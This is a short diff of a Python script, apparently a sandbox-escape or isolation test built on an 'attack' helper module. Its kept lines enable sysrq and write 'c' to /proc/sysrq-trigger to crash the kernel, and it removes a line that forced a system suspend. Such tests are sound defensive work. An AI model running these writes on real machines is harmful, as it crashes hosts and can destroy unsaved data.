@@ -1,7 +1,5 @@
-import os
-from attack import attempt, syscall
+from attack import attempt
 
 attempt("sysrq on", lambda: open("/proc/sys/kernel/sysrq", "w").write("1"))
-attempt("suspend", lambda: open("/sys/power/state", "w").write("mem"))
 print("crashing the kernel", flush=True)
 attempt("sysrq c", lambda: open("/proc/sysrq-trigger", "w").write("c"))
